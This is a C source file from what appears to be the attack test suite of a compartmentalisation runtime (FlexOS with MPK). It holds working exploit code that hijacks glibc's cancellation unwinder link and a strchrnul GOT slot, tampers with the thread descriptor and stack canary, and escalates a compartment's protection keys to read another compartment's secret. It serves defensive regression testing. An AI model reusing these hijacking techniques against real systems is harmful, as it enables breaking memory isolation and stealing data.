/*
 * attack --gate-glibc cancel-report|cancel-register|cancel-abort|canary-jump
 * (limit 1 of docs/threat-model.md; found by an audit of the C code the
 * runtime runs with more rights than a compartment's): that code called
 * C library functions that consult the calling thread's descriptor (its
 * TCB, key 0, which lib1 writes) and then follow code pointers of the C
 * library's (key 0 too):
 *   cancel-*     a cancellation point (write, nanosleep) of a thread whose
 *                descriptor says "cancelled" unwinds it through the C
 *                library's link to libgcc_s, a mangled pointer in its
 *                .bss (the pointer guard is in the TCB): lib1 marks its
 *                thread cancelled, points that link at its own code and
 *                makes the runtime write a message (cancel-report: the
 *                fault report, every key readable and the gate key
 *                writable; cancel-abort: a refusal with the gate page
 *                open, flexos__mpk_home_stack inside a gate call) or
 *                sleep (cancel-register: the registration of its own FS
 *                base, with the gate page open, waits for its thread);
 *   canary-jump  setjmp's record (jump.c, the gate page open) called
 *                pthread_sigmask, whose stack protector compares the
 *                thread's canary (%fs:0x28) before and after the system
 *                call; a second thread of lib1's could change it in
 *                between, so that __stack_chk_fail went through the C
 *                library's strchrnul slot to lib1's code. A tracer (the
 *                filter off: it denies ptrace) stands in for that thread,
 *                as in attack --report-canary.
 * With the gate page writable, lib1's code names app as running on it and
 * takes app's PKRU from the gate's own switch. Now that code makes those
 * system calls itself: the report ends the image (123), the refusal too
 * (134), the registration comes back (status 0), and the tracer's check
 * is reached only on lib1's own stack, in the C library's setjmp (0).
 * Before, lib1's code read app's secret (status 1).
 */
#define _GNU_SOURCE 1
#include <dlfcn.h>
#include <link.h>
#include <pthread.h>
#include <setjmp.h>
#include <signal.h>
#include <stdint.h>
#include <stdio.h>
#include <string.h>
#include <sys/ptrace.h>
#include <sys/syscall.h>
#include <sys/user.h>
#include <unistd.h>

#include <flexos/flexos.h>

#include "../../backends/mpk/mpk.h"
#include "attacklib.h"
#include "evil.h"
#include "gateglibc.h"
#include "gotslot.h"
#include "signalat.h"

extern char flexos__mpk_bind_checked[];

/* glibc 2.36's struct pthread on x86_64 (Debian 12): its tid and cancelhandling. */
#define PD_TID            0x2d0
#define PD_CANCELHANDLING 0x308
#define PD_CANCELED       8

static struct {
	const char *how;
	uintptr_t secret, close_gate, orig;
	uintptr_t *slot;
	uint32_t app_pkru, lib1_pkru;
	volatile int done;
	sigjmp_buf env;
	char stack[65536] __attribute__((aligned(16)));
} gg FLEXOS_SHARED;

static char *thread_self(void)
{
	char *self;

	__asm__ volatile("movq %%fs:0x10, %0" : "=r"(self));
	return self;
}

/* On gg.stack, with app's PKRU (after the gate's own switch). */
static __attribute__((__noreturn__, __used__)) void gg_escalated(void)
{
	evil_ran(gg.how, gg.secret, gg.app_pkru);
}

/* lib1's code, run by the runtime's with the rights it has there. */
static __attribute__((__noreturn__)) void gg_elevated(void)
{
	uint32_t pkru = flexos__mpk_rdpkru();

	gg.done = 1;
	*(volatile int *)(thread_self() + PD_CANCELHANDLING) = 0;
	if (!strcmp(gg.how, "canary-jump")) /* the tracer's change undone */
		__asm__ volatile("xorq $0x100, %%fs:0x28" : : : "memory");
	printf("gate-glibc %s: lib1's code runs inside the runtime with PKRU %#x (lib1's %#x)\n",
	       gg.how, pkru, gg.lib1_pkru);
	fflush(stdout);
	if (pkru == flexos__mpk_ro.ro.report_pkru)
		evil_ran(gg.how, gg.secret, gg.app_pkru); /* the report's reads every key */
	struct mpk_gate_page *gp = (struct mpk_gate_page *)flexos__mpk_own_page();
	if (!gp) {
		printf("gate-glibc %s: no gate page of its own\n", gg.how);
		fflush(stdout);
		_exit(4);
	}
	*(volatile uint64_t *)&gp->cur = 0; /* app */
	__asm__ volatile("movq %0, %%r11\n\t"
			 "call *%1\n\t"
			 "movq %2, %%rsp\n\t"
			 "call gg_escalated"
			 :
			 : "r"(gp), "r"(gg.close_gate), "r"(gg.stack + sizeof(gg.stack))
			 : "rax", "rcx", "rdx", "r10", "r11", "memory");
	__builtin_unreachable();
}

/* lib1's code in the C library's link to libgcc_s's _Unwind_ForcedUnwind. */
static void gg_unwind_hook(void *exc, void *stop, void *arg)
{
	uint32_t pkru = flexos__mpk_rdpkru();

	(void)exc, (void)stop, (void)arg;
	if (pkru != gg.lib1_pkru && pkru != gg.app_pkru)
		gg_elevated();
	*(volatile int *)(thread_self() + PD_CANCELHANDLING) = 0;
	printf("gate-glibc %s: cancelled with lib1's own PKRU %#x\n", gg.how, pkru);
	fflush(stdout);
	_exit(4);
}

/* lib1's code in the C library's strchrnul slot. */
static char *gg_strchrnul_hook(const char *s, int c)
{
	uint32_t pkru = flexos__mpk_rdpkru();

	if (!gg.done && pkru != gg.lib1_pkru && pkru != gg.app_pkru) {
		*gg.slot = gg.orig;
		gg_elevated();
	}
	return ((char *(*)(const char *, int))gg.orig)(s, c);
}

/* The gate's switch back to the page's compartment (flexos__mpk_thread_bind's). */
static int find_close_gate(void)
{
	uintptr_t pa = (uintptr_t)flexos__mpk_bind_checked;

	gg.lib1_pkru = flexos__mpk_rdpkru();
	for (uintptr_t a = pa - 3; a > pa - 64; a--) {
		const volatile uint8_t *p = (const volatile uint8_t *)a;
		if (p[0] == 0x4d && p[1] == 0x8b && p[2] == 0x13) { /* movq (%r11), %r10 */
			gg.close_gate = a;
			return 0;
		}
	}
	return -1;
}

/* ---- cancel-*: the C library's cancellation ------------------------------- */

/* PTR_MANGLE: xor with the pointer guard (%fs:0x30), rotated left by 17. */
static uintptr_t mangle(uintptr_t p)
{
	uintptr_t guard;

	__asm__ volatile("movq %%fs:0x30, %0" : "=r"(guard));
	p ^= guard;
	return p << 17 | p >> 47;
}

static int find_link(struct dl_phdr_info *info, size_t size, void *data)
{
	uintptr_t want = *(uintptr_t *)data, relro_lo = 0, relro_hi = 0;

	(void)size;
	if (!strstr(info->dlpi_name, "libc.so.6"))
		return 0;
	for (int i = 0; i < info->dlpi_phnum; i++)
		if (info->dlpi_phdr[i].p_type == PT_GNU_RELRO) {
			relro_lo = info->dlpi_addr + info->dlpi_phdr[i].p_vaddr;
			relro_hi = relro_lo + info->dlpi_phdr[i].p_memsz;
		}
	for (int i = 0; i < info->dlpi_phnum; i++) {
		const ElfW(Phdr) *p = &info->dlpi_phdr[i];
		if (p->p_type != PT_LOAD || !(p->p_flags & PF_W))
			continue;
		uintptr_t lo = (info->dlpi_addr + p->p_vaddr + 7) & ~(uintptr_t)7;
		uintptr_t hi = info->dlpi_addr + p->p_vaddr + p->p_memsz;
		for (uintptr_t a = lo; a + 8 <= hi; a += 8)
			if ((a < relro_lo || a >= relro_hi) && *(uintptr_t *)a == want) {
				gg.slot = (uintptr_t *)a;
				return 1;
			}
	}
	return 1;
}

static void *gg_nothing(void *arg)
{
	return arg;
}

static long cancel_in_lib1(long x)
{
	pthread_t t;
	char *self = thread_self();
	long r = 0;

	(void)x;
	if (find_close_gate())
		return -100;
	/* A second thread: the C library's cancellation points check from then on. */
	if (pthread_create(&t, NULL, gg_nothing, NULL) || pthread_join(t, NULL))
		return -100;
	void *gcc = dlopen("libgcc_s.so.1", RTLD_NOW | RTLD_NOLOAD);
	void *fu = gcc ? dlsym(gcc, "_Unwind_ForcedUnwind") : NULL;
	uintptr_t want = mangle((uintptr_t)fu);
	if (fu)
		dl_iterate_phdr(find_link, &want);
	if (!gg.slot || *(pid_t *)(self + PD_TID) != (pid_t)syscall(SYS_gettid)) {
		printf("gate-glibc %s: not the C library the test knows (link %s)\n", gg.how,
		       gg.slot ? "found" : "not found");
		fflush(stdout);
		return -100;
	}
	gg.orig = *gg.slot;
	printf("gate-glibc %s: lib1 marks its thread cancelled and points the C library's "
	       "link to libgcc_s at its code\n",
	       gg.how);
	fflush(stdout);
	*gg.slot = mangle((uintptr_t)gg_unwind_hook);
	/* No cancellation point from here to the runtime's. */
	__atomic_or_fetch((int *)(self + PD_CANCELHANDLING), PD_CANCELED, __ATOMIC_SEQ_CST);
	if (!strcmp(gg.how, "cancel-report"))
		(void)*(volatile long *)gg.secret; /* a protection-key fault: the report */
	else if (!strcmp(gg.how, "cancel-register"))
		r = flexos__mpk_thread_register((uint64_t)(uintptr_t)self);
	else if (!strcmp(gg.how, "cancel-abort"))
		r = (long)flexos__mpk_home_stack();
	__atomic_and_fetch((int *)(self + PD_CANCELHANDLING), ~PD_CANCELED, __ATOMIC_SEQ_CST);
	*gg.slot = gg.orig;
	printf("gate-glibc %s: the runtime came back (%ld) and never ran lib1's code: ok\n", gg.how,
	       r);
	fflush(stdout);
	return -200;
}

/* ---- canary-jump: pthread_sigmask's canary under setjmp's record ----------- */

static int at_check(pid_t tid, struct user_regs_struct *regs)
{
	uintptr_t lo = flexos__mpk_ro.ro.gs_lo;
	uintptr_t hi = lo + ((uintptr_t)MPK_GATE_PAGES << MPK_GATE_STACK_SHIFT);

	if (regs->rsp < lo || regs->rsp >= hi) {
		printf("gate-glibc canary-jump: pthread_sigmask's check reached on lib1's own "
		       "stack (%#llx), not on a gate stack\n",
		       regs->rsp);
		fflush(stdout);
		return 0;
	}
	flip_canary(tid, regs);
	return 0;
}

static long jump_in_lib1(long x)
{
	(void)x;
	if (find_close_gate())
		return -100;
	gg.slot = got_slot("libc.so.6", (uintptr_t)strchrnul);
	if (!gg.slot)
		return -100;
	gg.orig = *gg.slot;
	*gg.slot = (uintptr_t)gg_strchrnul_hook;
	if (!sigsetjmp(gg.env, 1)) {
		*gg.slot = gg.orig;
		return -200;
	}
	return -300;
}

static void jump_child(void)
{
	long r = 0;

	ptrace(PTRACE_TRACEME, 0, NULL, NULL);
	raise(SIGSTOP);
	raise(SIGSTOP);
	flexos_gate_r(lib1, r, lib1_call, jump_in_lib1, 0);
	printf("gate-glibc canary-jump: back in app (%ld)\n", r - 1);
	fflush(stdout);
	_exit(r == -199 ? 0 : 3);
}

int gate_glibc(const char *how, uintptr_t app_secret)
{
	long r = 0;

	gg.how = how;
	gg.secret = app_secret;
	gg.app_pkru = flexos__mpk_rdpkru();
	if (!strcmp(how, "canary-jump")) {
		uintptr_t check = sigmask_canary_check();
		if (!check)
			return 3;
		return trace_at(jump_child, check, at_check,
				"gate-glibc canary-jump: the tracer stops at pthread_sigmask's "
				"check");
	}
	if (strcmp(how, "cancel-report") && strcmp(how, "cancel-register") &&
	    strcmp(how, "cancel-abort"))
		return 2;
	flexos_gate_r(lib1, r, lib1_call, cancel_in_lib1, 0);
	printf("gate-glibc %s: back in app (%ld)\n", how, r - 1);
	fflush(stdout);
	return r == -199 ? 0 : 3;
}
